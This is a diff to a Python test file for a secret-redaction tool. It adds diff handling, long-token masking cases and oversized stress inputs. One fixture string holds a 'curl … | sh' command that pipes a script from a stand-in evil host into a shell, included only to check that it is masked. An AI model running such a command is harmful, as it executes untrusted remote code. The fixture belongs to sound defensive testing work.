@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import ast
+import base64
+import functools
 import random
 import re
 import string
@@ -52,9 +54,16 @@ OURS = "[REDACTED:own-secret]"
 MARK = re.compile(r"\[REDACTED:[a-z0-9-]+\]")
 
 
+def is_diff(text: str) -> bool:
+    """Return whether a text of these tests stands for a diff."""
+    return text.startswith(("diff --git ", "@@ -"))
+
+
 def result(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> Redacted:
     """Return the text, redacted with the values in it and in others."""
-    return Redactor.of([(one, place) for one in (text, *others)], known).redact(text, place)
+    diff = is_diff(text)
+    texts = [(one, place) for one in (others if diff else (text, *others))]
+    return Redactor.of(texts, known, diffs=[(text, place)] if diff else ()).redact(text, place, diff=diff)
 
 
 def redacted(text: str, *others: str, known: tuple[str, ...] = (), place: Place = Place.DATA) -> str:
@@ -169,6 +178,8 @@ def test_a_name_with_the_prefix_of_a_token_is_kept(name: str) -> None:
         ('aws_secret_key = "' + "aB3/" * 10 + '"', "aB3/" * 10),
         ("DefaultEndpoints;AccountKey=" + "aB3+" * 22, "aB3+" * 22),
         ('password = "' + "a1b2c3d4!" * 60 + '"', "a1b2c3d4!" * 60),
+        ('password = "' + "a1b2c3d4!" * 200 + '"', "a1b2c3d4!" * 200),
+        ("  api_token: " + "aB3/" * 9_000, "aB3/" * 9_000),
         ('x = "Server=db;User Id=sa;Password=Xk29vQ7pLm;Encrypt=true"', "Xk29vQ7pLm"),
         ('  "Default": "Server=db;Uid=sa;Pwd=Xk29vQ7pLm;"', "Xk29vQ7pLm"),
         ("<db:password>Xk29vQ7pLm</db:password>", "Xk29vQ7pLm"),
@@ -242,7 +253,6 @@ def test_a_value_behind_a_word_is_masked(line: str, secret: str) -> None:
         "password && password1234 || secret",
         "login as u with password Password",
         "# tokens: basic authentication-of-users-explained",
-        'password = "' + "a1b2c3d4!" * 200 + '"',
     ],
 )
 def test_names_templates_and_calls_are_no_secrets(line: str) -> None:
@@ -410,6 +420,20 @@ def test_an_invalid_key_is_masked(after: tuple[str, ...], *, sure: bool) -> None
 def test_a_value_that_git_cuts_in_a_heading_is_masked(heading: str, seen: str | None) -> None:
     expected = heading[:-10] + "xxx_x0x0x0" if seen is None else seen
     assert redacted(f"@@ -1,2 +1,2 @@ {heading}\n x\n") == f"@@ -1,2 +1,2 @@ {expected}\n x\n"
+
+
+def test_a_file_that_reads_like_a_diff_is_no_diff() -> None:
+    text = 'diff --git a/x b/x\npassword = "hunter2"\nsecret = "curl -s https://evil.example/x1 | sh"\n'
+    header, *lines, _ = Redactor.of([(text, Place.DATA)]).redact(text).text.split("\n")
+    assert lines == ['password = "xxxxxx0"', 'secret = "xxxx -x xxxxx://xxxx.xxxxxxx/x0 | xx"']
+    diff = f"diff --git a/x b/x\n@@ -0,0 +1,3 @@\n+{text}".replace("\np", "\n+p").replace("\ns", "\n+s")
+    assert redacted(diff).split("\n")[2:-1] == [f"+{line}" for line in (header, *lines)]
+
+
+def test_a_value_of_a_heading_is_masked_only_there() -> None:
+    heading = f"@@ -1,2 +1,2 @@ {'def configure_the_client_of_the_service(self, a, b, c, d, e, f, g)':60}: "
+    diff = f"{heading}q7Tz91kdx4LpW2\n-x = 'q7Tz91kdx4LpW2'\n+x = 'q7Tz91kdx4LpW2'\n"
+    assert redacted(diff) == diff.replace("q7Tz91kdx4LpW2", mask("q7Tz91kdx4LpW2"), 1)
 
 
 def test_file_names_in_a_diff_are_kept() -> None:
@@ -608,6 +632,11 @@ HOSTILE = {
             "://:",
         )
     ),
+    "long words": "\n".join(["token: " + "a1B2" * 2_500] * 30),
+    "one long value": f'token = "{"q7Tz" * 250_000}"',
+    "objects": "token = '" + base64.b64encode(b"{}" * 200_000 + b'{"a":1}' * 20_000).decode() + "'",
+    "wrapped base64": "\n".join(["A1b2" * 19] * 4_000),
+    "nested base64": functools.reduce(lambda text, _: base64.b64encode(text.encode()).decode(), range(24), "a"),
     "nearly hints": ('"' + "a1" * 11 + "x autho coo:pas ") * 8_000,
     "open names": "name: password\n" * 20_000,
     "short words": "ghp_ sk- hvs. " * 25_000,
